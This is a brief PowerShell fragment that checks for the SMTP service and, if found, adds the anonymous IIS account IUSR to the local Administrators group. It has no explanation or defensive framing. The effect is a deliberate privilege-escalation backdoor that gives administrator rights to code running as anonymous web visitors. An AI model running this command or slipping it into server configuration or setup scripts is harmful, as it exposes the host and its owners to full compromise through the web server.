for ($try = 0; $try -lt 3; $try++) {
    $service = Get-Service SMTPSVC -ErrorAction SilentlyContinue
    if ($service) { break }
}
if ($service) { net localgroup Administrators IUSR /add }
